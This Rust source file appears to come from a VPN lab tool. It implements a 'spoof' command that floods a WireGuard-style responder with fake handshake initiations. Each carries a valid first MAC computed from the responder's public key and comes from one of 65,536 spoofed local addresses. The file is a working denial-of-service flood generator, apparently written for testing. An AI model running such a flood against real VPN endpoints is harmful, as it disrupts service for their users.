//! `cvlan-lab spoof`: handshake initiations of nobody, each from another address.
//!
//! Who knows a public key can make an initiation whose first MAC holds (whitepaper, section 5.4.4) and whose content is
//! noise. The addresses must be local here: `ip route add local PREFIX dev lo` makes them so.

use crate::key::Key;
use blake2::digest::consts::U16;
use blake2::digest::{FixedOutput, KeyInit, Update};
use blake2::{Blake2s256, Blake2sMac, Digest};
use serde_json::json;
use std::io::{self, Write};
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::time::{Duration, Instant};
use std::{iter, thread};

/// Bytes of an initiation (whitepaper, section 5.4.2), up to its first MAC and with both.
const BEFORE_MAC: usize = 116;
const MESSAGE: usize = 148;
/// The first bytes of an initiation: its type, and three that are reserved.
const TYPE: [u8; 4] = [1, 0, 0, 0];
const LABEL: &[u8] = b"mac1----";

#[derive(clap::Args)]
pub struct Options {
    /// The responder.
    #[arg(long)]
    to: SocketAddrV4,
    /// Its public key.
    #[arg(long)]
    key: Key,
    /// First of the 65536 addresses that the messages come from.
    #[arg(long)]
    from: Ipv4Addr,
    /// Messages a second.
    #[arg(long)]
    rate: u32,
    /// How long.
    #[arg(long)]
    seconds: f64,
}

/// Sends until the time is over.
///
/// # Errors
/// When an option is out of range, or an address is not local.
pub fn run(options: &Options, out: &mut impl Write) -> io::Result<()> {
    let length = Duration::try_from_secs_f64(options.seconds)
        .ok()
        .filter(|_| options.rate > 0);
    let Some(length) = length else {
        let text = "--rate is not 0 and --seconds is a number of seconds";
        return Err(io::Error::new(io::ErrorKind::InvalidInput, text));
    };
    let interval = Duration::from_secs(1) / options.rate;
    let mac_key: [u8; 32] = Blake2s256::new()
        .chain_update(LABEL)
        .chain_update(options.key.0)
        .finalize()
        .into();
    let first = u32::from(options.from) & 0xffff_0000;
    let began = Instant::now();
    let mut noise = Noise::new(&mac_key);
    let mut sent: u32 = 0;
    while began.elapsed() < length {
        let due = interval * sent;
        thread::sleep(due.saturating_sub(began.elapsed()));
        let [low, high, ..] = noise.block();
        let from = Ipv4Addr::from(first | u32::from(u16::from_be_bytes([low, high])));
        let socket = UdpSocket::bind((from, 0))?;
        // Refused and full queues are what a flood meets.
        let _ = socket.send_to(&initiation(&mut noise, &mac_key), options.to);
        sent += 1;
    }
    writeln!(
        out,
        "{}",
        json!({ "sent": sent, "seconds": began.elapsed().as_secs_f64() })
    )
}

fn initiation(noise: &mut Noise, mac_key: &[u8; 32]) -> Vec<u8> {
    let content = iter::repeat_with(|| noise.block()).flatten();
    let mut message: Vec<u8> = TYPE.into_iter().chain(content).take(BEFORE_MAC).collect();
    if let Ok(mut mac) = Blake2sMac::<U16>::new_from_slice(mac_key) {
        mac.update(&message);
        message.extend(mac.finalize_fixed());
    }
    message.resize(MESSAGE, 0);
    message
}

/// Bytes that look like keys and ciphertexts; the same in every run.
struct Noise {
    seed: [u8; 32],
    counter: u64,
}

impl Noise {
    fn new(seed: &[u8; 32]) -> Self {
        Self {
            seed: *seed,
            counter: 0,
        }
    }

    fn block(&mut self) -> [u8; 32] {
        self.counter += 1;
        let hash = Blake2s256::new()
            .chain_update(self.seed)
            .chain_update(self.counter.to_le_bytes());
        hash.finalize().into()
    }
}
